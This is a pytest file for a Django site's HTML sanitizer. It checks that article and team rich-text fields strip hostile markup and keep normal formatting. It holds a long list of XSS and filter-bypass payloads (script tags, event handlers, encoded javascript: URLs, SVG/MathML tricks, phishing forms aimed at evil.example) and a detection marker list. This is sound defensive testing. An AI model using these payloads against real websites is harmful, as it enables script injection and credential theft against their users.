"""Every HTML field is cleaned with one allow-list: hostile markup is neutralised, formatting is kept."""

import pytest
from django.contrib.admin.sites import site
from django.test import RequestFactory
from factories import make_article, make_team

from core.richtext import sanitize_html
from newsroom.admin.articles import ArticleAdmin
from newsroom.models import Article
from research.admin import TeamAdmin
from research.models import Team

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<p onclick=alert(1)>click</p>",
    "<img src=x onerror=alert(1)>",
    "<img src=/media/images/a.jpg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="https://tracker.example/pixel.gif">',
    '<img src="//evil.example/media/a.jpg">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<svg onload=alert(1)><circle r=5 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)>"
    "</style></mtext></svg></mglyph></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<p <img src=x onerror=alert(1)>>broken</p>",
    "<b><i><u onclick=alert(1)>nested</b></i></u>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="https://example.org" target="_blank" onfocus="alert(1)" autofocus>x</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    '<a href="https://example.org" rel="opener">x</a>',
]

DANGEROUS_MARKERS = (
    "<script",
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "javascript",
    "vbscript",
    "data:",
    "<style",
    "style=",
    "expression(",
    "<svg",
    "<math",
    "<iframe",
    "srcdoc",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<meta",
    "<base",
    "<link",
    "<template",
    "evil.example",
    "tracker.example",
    "target=",
    'rel="opener"',
)


def test_the_hostile_corpus_is_large_enough():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_neutralised(html):
    cleaned = sanitize_html(html).lower()
    assert not [marker for marker in DANGEROUS_MARKERS if marker in cleaned], cleaned


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_twice_changes_nothing(html):
    once = sanitize_html(html)
    assert sanitize_html(once) == once


NORMAL = [
    "<p>Plain paragraph with <strong>bold</strong>, <em>italic</em> and <u>underlined</u> words.</p>",
    "<h2>Results</h2><h3>In mice</h3><h4>Methods</h4>",
    "<ul><li>fibroblasts</li><li>tumour cells</li></ul>",
    '<ol start="3"><li>third</li><li>fourth</li></ol>',
    "<blockquote><p>“These results open a therapeutic avenue,” says Dr. Bousquet.</p></blockquote>",
    "<p>CO<sub>2</sub> and m<sup>2</sup>, <s>struck</s>, <code>TGF-β</code></p>",
    '<p><abbr title="Cancer-associated fibroblasts">CAF</abbr>s</p>',
    "<p>Line one<br>line two</p><hr>",
    '<figure><img src="/media/images/2021/02/cells.jpg" alt="Fibroblasts" width="800" height="533">'
    "<figcaption>Fibroblasts in green.</figcaption></figure>",
    '<table><thead><tr><th scope="col">Grant</th></tr></thead><tbody><tr><td>19-75-30016</td></tr></tbody></table>',
    "<p>Химиотерапия рака &amp; métastases — “quotes” and <q>inline quotes</q></p>",
]


@pytest.mark.parametrize("html", NORMAL)
def test_normal_formatting_is_kept_exactly(html):
    assert sanitize_html(html) == html


def test_links_are_kept_and_get_rel_noopener():
    cleaned = sanitize_html('<p><a href="https://doi.org/10.1016/j.jcmgh.2021.01.008" title="paper">the paper</a></p>')
    assert cleaned == (
        '<p><a href="https://doi.org/10.1016/j.jcmgh.2021.01.008" title="paper" rel="noopener noreferrer">'
        "the paper</a></p>"
    )


def test_mail_and_relative_links_are_kept():
    cleaned = sanitize_html('<a href="mailto:press@example.org">mail</a> <a href="/teams/micropanc/">team</a>')
    assert 'href="mailto:press@example.org"' in cleaned
    assert 'href="/teams/micropanc/"' in cleaned


@pytest.mark.django_db
def test_article_body_is_sanitised_on_save_and_rendered_as_html(client):
    article = make_article(body='<p>Safe <em>text</em></p><script>alert(1)</script><img src=x onerror="alert(2)">')
    assert Article.objects.get(pk=article.pk).body == "<p>Safe <em>text</em></p><img>"
    response = client.get(article.get_absolute_url())
    assert "<p>Safe <em>text</em></p>" in response.text
    assert "alert(" not in response.text


@pytest.mark.django_db
def test_team_description_is_sanitised_on_save():
    team = make_team(description='<p onclick="alert(1)">About <a href="javascript:alert(1)">us</a></p>')
    assert Team.objects.get(pk=team.pk).description == '<p>About <a rel="noopener noreferrer">us</a></p>'


@pytest.mark.django_db
def test_a_plain_text_team_description_becomes_paragraphs():
    team = make_team(description="First paragraph.\n\nSecond & last.")
    team.refresh_from_db()
    assert team.description == "<p>First paragraph.</p>\n\n<p>Second &amp; last.</p>"


@pytest.mark.parametrize(
    ("model_admin", "field"), [(ArticleAdmin(Article, site), "body"), (TeamAdmin(Team, site), "description")]
)
def test_the_admin_edits_rich_text_with_the_editor(model_admin, field, admin_user):
    request = RequestFactory().get("/")
    request.user = admin_user
    form = model_admin.get_form(request)()
    html = str(form[field])
    assert "prose-editor" in html
    assert "Heading" in html and "Blockquote" in html and "Link" in html and "Image" in html
    assert "django_prose_editor/editor.js" in str(form.media)
